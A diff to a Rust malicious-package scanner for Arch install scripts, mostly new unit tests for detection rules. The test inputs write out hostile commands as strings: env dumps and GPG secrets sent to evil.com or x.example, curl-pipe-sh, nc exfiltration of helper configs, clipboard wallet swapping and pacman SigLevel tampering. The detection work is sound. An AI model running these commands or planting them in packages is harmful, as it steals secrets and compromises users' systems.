@@ -1,8 +1,8 @@
-pub mod patterns;
-
 use crate::features::Feature;
 use crate::shared::models::PackageContext;
+use crate::shared::patterns::PatternEngine;
 use crate::shared::scoring::{Signal, SignalCategory};
+use crate::shared::trusted_domains::{is_public_keyserver, keyserver_host};
 
 pub struct InstallScriptAnalysis;
 
@@ -12,27 +12,9 @@ impl Feature for InstallScriptAnalysis {
             return Vec::new();
         };
 
-        let compiled = patterns::compiled_patterns();
-        let mut signals = Vec::new();
-
-        for pat in compiled {
-            if pat.regex.is_match(content) {
-                let matched_line = content
-                    .lines()
-                    .find(|line| pat.regex.is_match(line))
-                    .map(|line| line.trim().to_string());
-                signals.push(Signal {
-                    id: pat.id.clone(),
-                    category: SignalCategory::Pkgbuild,
-                    points: pat.points,
-                    description: pat.description.clone(),
-                    is_override_gate: pat.override_gate,
-                    matched_line,
-                });
-            }
-        }
-
-        signals
+        PatternEngine::scan_with(content, "install_script_analysis", SignalCategory::InstallScript, "", |pat, line| {
+            pat.id != "P-INSTALL-PACMAN-KEYSERVER" || !keyserver_host(line).is_some_and(|host| is_public_keyserver(&host))
+        })
     }
 }
 
@@ -52,6 +34,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         InstallScriptAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }
@@ -60,6 +51,159 @@ mod tests {
         ids.iter().any(|s| s == id)
     }
 
+    #[test]
+    fn install_exfil_slack_webhook() {
+        let ids = analyze("post_install() {\n  curl -d \"$(hostname)\" https://hooks.slack.com/services/T0/B0/X\n}");
+        assert!(has(&ids, "P-EXFIL-SLACK-WEBHOOK"));
+    }
+
+    #[test]
+    fn install_exfil_multipart_secrets() {
+        let ids = analyze("post_install() {\n  curl -F k=@/root/.gnupg/secring.gpg https://x.example/u\n}");
+        assert!(has(&ids, "P-EXFIL-MULTIPART-SECRETS"));
+    }
+
+    #[test]
+    fn install_tls_disabled() {
+        let ids = analyze("post_install() {\n  wget -q --no-check-certificate -O /tmp/x http://example.com/x\n}");
+        assert!(has(&ids, "P-TLS-DISABLED"));
+    }
+
+    #[test]
+    fn upgrade_fetch_exec() {
+        let ids = analyze("post_upgrade() {\n  curl -fsSL https://x.example/u.sh | sh\n}");
+        assert!(has(&ids, "P-INSTALL-UPGRADE-FETCH-EXEC"));
+        let ids = analyze("post_upgrade() {\n  wget -qO /usr/bin/upd https://x.example/upd\n  chmod +x /usr/bin/upd\n}");
+        assert!(has(&ids, "P-INSTALL-UPGRADE-FETCH-EXEC"));
+    }
+
+    #[test]
+    fn upgrade_fetch_without_exec_or_outside_post_upgrade() {
+        let ids = analyze("post_upgrade() {\n  curl -o /var/lib/foo/db.json https://x.example/db.json\n}");
+        assert!(!has(&ids, "P-INSTALL-UPGRADE-FETCH-EXEC"));
+        let ids = analyze("post_install() {\n  curl -fsSL https://x.example/u.sh | sh\n}\npost_upgrade() {\n  post_install\n}");
+        assert!(!has(&ids, "P-INSTALL-UPGRADE-FETCH-EXEC"));
+    }
+
+    #[test]
+    fn helper_cache_tampering() {
+        let ids = analyze("post_install() {\n  cp /usr/share/foo/PKGBUILD /home/*/.cache/yay/foo/PKGBUILD\n}");
+        assert!(has(&ids, "P-INSTALL-HELPER-CACHE-MOD"));
+        let ids = analyze("post_upgrade() {\n  sed -i 's/^sha256sums=.*/sha256sums=(SKIP)/' /var/tmp/pamac-build-*/foo/PKGBUILD\n}");
+        assert!(has(&ids, "P-INSTALL-HELPER-CACHE-MOD"));
+    }
+
+    #[test]
+    fn self_modifying_install_script() {
+        let ids = analyze("post_install() {\n  sed -i '/^post_remove/,$d' \"$0\"\n}");
+        assert!(has(&ids, "P-INSTALL-SELF-REWRITE"), "got: {ids:?}");
+        let ids = analyze("post_upgrade() {\n  base64 -d <<< \"$p\" >> ${BASH_SOURCE[0]}\n}");
+        assert!(has(&ids, "P-INSTALL-SELF-REWRITE"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  echo \"usage: $0 [options]\"\n}");
+        assert!(!has(&ids, "P-INSTALL-SELF-REWRITE"));
+    }
+
+    #[test]
+    fn pacman_local_db_and_pkgbuild_rewrites() {
+        let ids = analyze("post_install() {\n  cp /usr/share/foo/install /var/lib/pacman/local/foo-1.0-1/install\n}");
+        assert!(has(&ids, "P-INSTALL-PACMAN-DB-MOD"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  grep -q foo /var/lib/pacman/local/*/desc\n}");
+        assert!(!has(&ids, "P-INSTALL-PACMAN-DB-MOD"));
+
+        let ids = analyze("post_install() {\n  for d in /home/*/.cache/paru/clone/foo; do cat /usr/share/foo/p > \"$d/PKGBUILD\"; done\n}");
+        assert!(has(&ids, "P-INSTALL-PKGBUILD-WRITE"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  sed -i 's/^source=(/source=(\"x::https:\\/\\/x.example\\/p\" /' /tmp/build/PKGBUILD\n}");
+        assert!(has(&ids, "P-INSTALL-PKGBUILD-WRITE"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  echo 'See the PKGBUILD for build options'\n}");
+        assert!(!has(&ids, "P-INSTALL-PKGBUILD-WRITE"));
+    }
+
+    #[test]
+    fn makepkg_rerun() {
+        let ids = analyze("post_install() {\n  cd /tmp/foo && sudo -u nobody makepkg -f\n}");
+        assert!(has(&ids, "P-INSTALL-MAKEPKG"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  runuser -u \"$SUDO_USER\" -- makepkg -s\n}");
+        assert!(has(&ids, "P-INSTALL-MAKEPKG"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  echo 'Rebuild with makepkg to enable foo'\n}");
+        assert!(!has(&ids, "P-INSTALL-MAKEPKG"));
+    }
+
+    #[test]
+    fn scheduled_self_reinstall() {
+        let ids = analyze("post_install() {\n  echo '@reboot root yay -S --noconfirm foo' > /etc/cron.d/foo\n}");
+        assert!(has(&ids, "P-INSTALL-SELF-REINSTALL"));
+        let ids = analyze("post_install() {\n  cat > /etc/systemd/system/foo-upd.service <<EOF\nExecStart=/usr/bin/paru -Sy --noconfirm foo\nEOF\n}");
+        assert!(has(&ids, "P-INSTALL-SELF-REINSTALL"));
+    }
+
+    #[test]
+    fn nested_package_install() {
+        let ids = analyze("post_install() {\n  (sleep 30; pacman -U --noconfirm /tmp/x.pkg.tar.zst) &\n}");
+        assert!(has(&ids, "P-INSTALL-NESTED-PKG"));
+        let ids = analyze("post_install() {\n  echo 'Optional: pacman -S foo-plugins'\n}");
+        assert!(!has(&ids, "P-INSTALL-NESTED-PKG"));
+    }
+
+    #[test]
+    fn pacman_repo_and_key_tampering() {
+        let ids = analyze("post_install() {\n  echo -e '[x]\\nServer = https://x.example' >> /etc/pacman.conf\n  pacman-key -r 0xDEADBEEF\n}");
+        assert!(has(&ids, "P-INSTALL-PACMAN-CONF-MOD"));
+        assert!(has(&ids, "P-INSTALL-PACMAN-KEY-IMPORT"));
+        let ids = analyze("post_install() {\n  pacman-key --populate archlinuxcn\n}");
+        assert!(!has(&ids, "P-INSTALL-PACMAN-KEY-IMPORT"));
+        assert!(has(&analyze("echo -e '[x]\\nServer = https://x.example' >> /etc/pacman.conf"), "P-INSTALL-PACMAN-REPO-ADD"));
+    }
+
+    #[test]
+    fn drops_into_other_packages_paths() {
+        let ids = analyze("post_install() {\n  cp /usr/share/foo/override.conf /etc/systemd/system/sshd.service.d/\n}");
+        assert!(has(&ids, "P-INSTALL-SYSTEMD-OVERRIDE"));
+        let ids = analyze("post_install() {\n  printf '[Service]\\nExecStartPre=/opt/x\\n' > /usr/lib/systemd/system/cronie.service\n}");
+        assert!(has(&ids, "P-INSTALL-SYSTEMD-OVERRIDE"));
+        let ids = analyze("post_install() {\n  echo 'export LD_PRELOAD=/opt/x.so' | tee /etc/profile.d/zz.sh\n}");
+        assert!(has(&ids, "P-INSTALL-PROFILE-D-DROP"));
+        let ids = analyze("post_install() {\n  install -m755 /opt/foo/run.sh /usr/share/libalpm/scripts/\n}");
+        assert!(has(&ids, "P-INSTALL-ALPM-SCRIPT-DROP"));
+        let ids = analyze("post_install() {\n  curl -so /tmp/c https://x.example/c\n  cp /tmp/c /usr/share/bash-completion/completions/git\n}");
+        assert!(has(&ids, "P-INSTALL-COMPLETION-EXEC"));
+        let ids = analyze("post_install() {\n  chmod +x /usr/share/zsh/site-functions/_foo\n}");
+        assert!(has(&ids, "P-INSTALL-COMPLETION-EXEC"));
+    }
+
+    #[test]
+    fn own_units_and_reads_are_not_drops() {
+        let ids = analyze("post_install() {\n  systemctl daemon-reload\n  systemctl restart sshd.service\n  cat /etc/systemd/system/foo.service\n}");
+        assert!(!has(&ids, "P-INSTALL-SYSTEMD-OVERRIDE"));
+        let ids = analyze("post_install() {\n  echo 'Log out and back in, /etc/profile.d/foo.sh sets PATH'\n  . /etc/profile\n}");
+        assert!(!has(&ids, "P-INSTALL-PROFILE-D-DROP"));
+        let ids = analyze("post_install() {\n  chmod 644 /usr/share/bash-completion/completions/foo\n}");
+        assert!(!has(&ids, "P-INSTALL-COMPLETION-EXEC"));
+    }
+
+    #[test]
+    fn pacman_keyserver_and_siglevel() {
+        let ids = analyze("post_install() {\n  pacman-key --keyserver keys.evil.example:11371 -r 0xDEADBEEF\n  sed -i 's/^SigLevel.*/SigLevel = Optional TrustAll/' /etc/pacman.conf\n}");
+        assert!(has(&ids, "P-INSTALL-PACMAN-KEYSERVER"));
+        assert!(has(&ids, "P-INSTALL-PACMAN-SIGLEVEL"));
+        let ids = analyze("post_install() {\n  pacman-key --keyserver keys.openpgp.org -r 0xDEADBEEF\n}");
+        assert!(!has(&ids, "P-INSTALL-PACMAN-KEYSERVER"));
+        let ids = analyze("post_install() {\n  echo 'SigLevel = Required DatabaseOptional' >> /etc/pacman.d/foo.conf\n}");
+        assert!(!has(&ids, "P-INSTALL-PACMAN-SIGLEVEL"));
+    }
+
+    #[test]
+    fn pacman_keyring_and_helper_credentials() {
+        let ids = analyze("post_install() {\n  pacman-key -e | base64 > /var/tmp/.k\n  cp /etc/pacman.d/gnupg/pubring.gpg /var/tmp/\n}");
+        assert!(has(&ids, "P-INSTALL-PACMAN-KEY-EXPORT"));
+        assert!(has(&ids, "P-INSTALL-PACMAN-KEYRING-ACCESS"));
+        let ids = analyze("post_install() {\n  pacman-key --delete 0xDEADBEEF\n  tar c /home/*/.config/yay/ | nc x.example 9\n}");
+        assert!(has(&ids, "P-INSTALL-PACMAN-KEY-TRUST"));
+        let ids = analyze("post_install() {\n  tar c /home/alice/.config/yay/ | nc x.example 9\n}");
+        assert!(has(&ids, "P-INSTALL-AUR-HELPER-CONFIG"));
+        let ids = analyze("post_install() {\n  pacman-key --populate archlinuxcn\n}");
+        assert!(!has(&ids, "P-INSTALL-PACMAN-KEY-TRUST"));
+    }
+
     #[test]
     fn install_curl() {
         let ids = analyze("curl https://example.com/data");
@@ -132,6 +276,15 @@ mod tests {
         assert!(has(&ids, "P-INSTALL-NOHUP"));
     }
 
+    #[test]
+    fn install_daemonization() {
+        let ids = analyze("post_install() {\n  setsid /usr/lib/foo/agent &\n  (/tmp/.x &)\n  sleep 1; disown\n  start-stop-daemon -S -b -x /usr/bin/foo\n}");
+        assert!(has(&ids, "P-INSTALL-SETSID"));
+        assert!(has(&ids, "P-INSTALL-DOUBLE-FORK"));
+        assert!(has(&ids, "P-INSTALL-DISOWN"));
+        assert!(has(&ids, "P-INSTALL-START-STOP-DAEMON"));
+    }
+
     #[test]
     fn install_tmp_exec() {
         let ids = analyze("chmod +x /tmp/payload");
@@ -174,6 +327,14 @@ mod tests {
         assert!(has(&ids, "P-INSTALL-ENV-TOKENS"));
     }
 
+    #[test]
+    fn install_env_harvesting() {
+        assert!(has(&analyze("post_install() {\n  env | curl -d @- https://evil.com\n}"), "P-INSTALL-ENV-DUMP-PIPE"));
+        assert!(has(&analyze("printenv >> /tmp/e\nwget --post-file=/tmp/e https://evil.com"), "P-INSTALL-ENV-DUMP-UPLOAD"));
+        assert!(has(&analyze("for v in ${!GITHUB_@}; do :; done"), "P-INSTALL-ENV-PREFIX-ENUM"));
+        assert!(has(&analyze("cat /proc/1/environ"), "P-INSTALL-PROC-ENVIRON"));
+    }
+
     // --- New obfuscation patterns ---
 
     #[test]
@@ -212,12 +373,51 @@ mod tests {
         assert!(has(&ids, "P-INSTALL-SUDOERS-MOD"));
     }
 
+    #[test]
+    fn install_clipboard_hijacker() {
+        let ids = analyze("post_install() {\n  (while :; do a=$(xsel -b); case $a in 0x*) ;; esac; sleep 1; done) &\n}");
+        assert!(has(&ids, "P-INSTALL-CLIPBOARD-LOOP"));
+        let ids = analyze("echo '[Service]\nExecStart=/bin/sh -c \"while clipnotify; do :; done\"' > /etc/systemd/user/c.service");
+        assert!(has(&ids, "P-INSTALL-CLIPBOARD-UNIT"));
+        let ids = analyze("[[ $c =~ ^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$ ]] && echo -n \"$W\" | xsel -bi");
+        assert!(has(&ids, "P-INSTALL-CLIPBOARD-WALLET-SWAP"));
+    }
+
     #[test]
     fn install_prompt_command() {
         let ids = analyze("echo 'PROMPT_COMMAND=\"curl http://evil.com\"' >> ~/.bashrc");
         assert!(has(&ids, "P-INSTALL-PROMPT-COMMAND"));
     }
 
+    #[test]
+    fn install_xdg_mime_default_hijack() {
+        let ids = analyze("post_install() {\n  sudo -u \"$SUDO_USER\" xdg-mime default evil.desktop application/pdf\n}");
+        assert!(has(&ids, "P-INSTALL-XDG-MIME-DEFAULT"), "got: {ids:?}");
+        let ids = analyze("cp /usr/share/evil/mimeapps.list /home/*/.config/");
+        assert!(has(&ids, "P-INSTALL-MIMEAPPS-WRITE"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn install_sudo_and_prompts() {
+        let ids = analyze("post_install() {\n  sudo chmod 4755 /usr/bin/helper\n}");
+        assert!(has(&ids, "P-INSTALL-SUDO"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  read -rp 'Enter your password: ' pw </dev/tty\n}");
+        assert!(has(&ids, "P-INSTALL-USER-PROMPT"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  zenity --password --title='Update' > /tmp/.p\n}");
+        assert!(has(&ids, "P-INSTALL-USER-PROMPT"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  pkttyagent --process $$ &\n}");
+        assert!(has(&ids, "P-INSTALL-PKTTYAGENT"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn install_sudo_and_prompts_no_false_positive() {
+        let ids = analyze("post_install() {\n  echo 'Run: sudo systemctl enable --now foo' >&2\n  while read -r line; do echo \"$line\"; done < /etc/foo.conf\n}");
+        assert!(!has(&ids, "P-INSTALL-USER-PROMPT"), "got: {ids:?}");
+        assert!(!has(&ids, "P-INSTALL-SUDO"), "got: {ids:?}");
+        let ids = analyze("post_install() {\n  echo 'pseudo terminal ready'\n}");
+        assert!(!has(&ids, "P-INSTALL-SUDO"), "got: {ids:?}");
+    }
+
     #[test]
     fn install_xdg_autostart() {
         let ids = analyze("cp malware.desktop ~/.config/autostart/");